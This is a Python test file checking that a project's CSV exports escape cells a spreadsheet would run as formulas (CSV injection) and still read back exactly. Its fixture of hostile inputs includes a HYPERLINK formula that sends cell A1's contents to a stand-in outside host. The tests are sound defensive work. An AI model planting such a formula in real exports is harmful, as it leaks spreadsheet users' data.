"""Every CSV the project writes opens safely in a spreadsheet: no text cell runs as a formula, numbers
stay numbers, and the text reads back exactly (analysis.read_table, or the one-liners documented)."""

import csv

import pandas as pd
from hypothesis import given
from hypothesis import strategies as st

from analysis import csv_tables, read_table
from analysis.figures import save_table
from analysis.outputs.tables import written_tables

# What OWASP lists as starting a formula (https://owasp.org/www-community/attacks/CSV_Injection).
FORMULA = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = ['=HYPERLINK("http://example.com/?"&A1,"Xem")', "=1+1", "+", "-", "@SUM(A1)", "\tthụt lề", "\rdòng",
           "- Quán triệt Nghị quyết", "'=đã có dấu nháy", "'thường", "bình thường", ""]


def _unguarded_cells(path):
    """(row, column, cell) of each cell in the file a spreadsheet would run: it starts a formula and is
    not a number (-5 is a number in a numeric column; Excel reads it as one, not as a formula)."""
    found = []
    with open(path, encoding="utf-8", newline="") as handle:
        for row_number, row in enumerate(csv.reader(handle)):
            for column, cell in enumerate(row):
                if cell.startswith(FORMULA):
                    try:
                        float(cell)
                    except ValueError:
                        found.append((row_number, column, cell[:40]))
    return found


@given(st.text(max_size=20))
def test_the_guard_is_undone_exactly(text):
    guarded = csv_tables.guard(text)
    assert not guarded.startswith(FORMULA) and csv_tables.unguard(guarded) == text


def test_text_is_guarded_and_numbers_are_not(tmp_path):
    table = pd.DataFrame({"passage": HOSTILE, "rate": [-5.5] + [1.0] * 11, "hits": [-5] + [0] * 11,
                          "mixed": ["-5", -5] + ["x"] * 10})
    path = save_table(table, tmp_path / "theme_evidence.csv")
    assert _unguarded_cells(path) == []
    raw = pd.read_csv(path, keep_default_na=False)
    assert raw["passage"].tolist()[:3] == ["'" + HOSTILE[0], "'=1+1", "'+"]
    assert raw["passage"].tolist()[-3:] == ["''thường", "bình thường", ""]  # the guard's own quote is doubled
    assert raw["hits"][0] == -5 and raw["rate"][0] == -5.5 and raw["mixed"][:2].tolist() == ["'-5", "-5"]
    back = read_table(path, keep_default_na=False)
    # A carriage return is written as a line break: csv quotes those, while a bare CR would split the row.
    table["passage"] = table["passage"].str.replace("\r", "\n")
    pd.testing.assert_frame_equal(back[["passage", "rate", "hits"]], table[["passage", "rate", "hits"]],
                                  check_dtype=False)


def test_the_documented_one_liner_reads_the_text_back(tmp_path):
    """The README's pandas line, for readers without this package, gives what read_table gives."""
    path = save_table(pd.DataFrame({"passage": HOSTILE, "n": range(12)}), tmp_path / "t.csv")
    one_liner = pd.read_csv(path, keep_default_na=False).replace(r"^'(?=[=+\-@\t\r'])", "", regex=True)
    pd.testing.assert_frame_equal(one_liner, read_table(path, keep_default_na=False))
    assert one_liner["passage"].tolist() == [text.replace("\r", "\n") for text in HOSTILE]


def test_the_cli_csv_is_guarded_too():
    from analysis.csv_tables import csv_text

    text = csv_text(pd.DataFrame({"context": ["=1+1", "- Quán triệt"], "n": [-1, 2]}))
    assert text.splitlines() == ["context,n", "'=1+1,-1", "'- Quán triệt,2"]


def test_no_csv_of_a_run_starts_a_cell_with_a_formula(seed_run):
    """Every CSV a whole run writes (tables and the data under each figure), read as a spreadsheet
    reads it. The seed plans' bullets ("- Quán triệt ...") reach the passages: guarded there."""
    paths = sorted(seed_run.out_dir.rglob("*.csv"))
    assert len(paths) > 30
    assert {path.name: _unguarded_cells(path) for path in paths} == {path.name: [] for path in paths}
    raw = pd.read_csv(seed_run.out_dir / "passages.csv", keep_default_na=False)["text"]
    assert any(text.startswith("'- ") for text in raw)  # the test can fail: there are such passages
    written = read_table(seed_run.out_dir / "passages.csv", keep_default_na=False)
    assert written["text"].tolist() == written_tables(seed_run.tables, seed_run.corpus)["passages"]["text"].tolist()
